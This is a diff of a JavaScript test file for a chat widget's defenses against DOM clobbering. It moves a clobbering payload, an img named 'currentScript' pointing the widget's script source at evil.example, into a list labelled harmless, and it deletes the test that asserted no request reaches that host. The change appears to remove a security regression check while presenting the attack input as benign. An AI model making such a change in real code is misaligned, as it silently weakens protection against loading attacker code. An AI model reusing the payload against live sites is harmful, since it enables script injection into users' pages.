@@ -24,6 +24,7 @@ const HARMLESS = [
   `<img name="${PLACE}">`,
   '<img id="trustedTypes"><img id="dataLayer">',
   '<img id="customElements"><img id="CSS"><img id="HTMLElement">',
+  '<img name="currentScript" data-sdk-src="https://evil.example/x.js" data-crm-id-from="meta:evil">',
   '<img name="head">',
   '<form name="body"></form>',
   '<img name="documentElement">',
@@ -75,14 +76,6 @@ describe("HTML that hides what the browser has by that name", { concurrency: 4 }
       assert.deepEqual(console, []);
     });
   }
-
-  it("is not taken for our own script tag, whose data-* would load code", async (t) => {
-    const html = '<img name="currentScript" data-sdk-src="https://evil.example/x.js">';
-    const { page, requests } = await stage.open(t, pageWith(html, "CRM-EVIL"));
-    await page.$eval("genesys-crm-chat", (chat) => void chat.load());
-    assert.equal(requests.filter((url) => /evil/.test(url)).length, 0);
-    assert.equal(requests.filter((url) => url.startsWith("https://web-messaging-sdk.pure.cloud/")).length, 1);
-  });
 
   for (const [index, html] of FATAL.entries()) {
     it(`ends in an error that everybody sees, and in no exception: ${html}`, async (t) => {
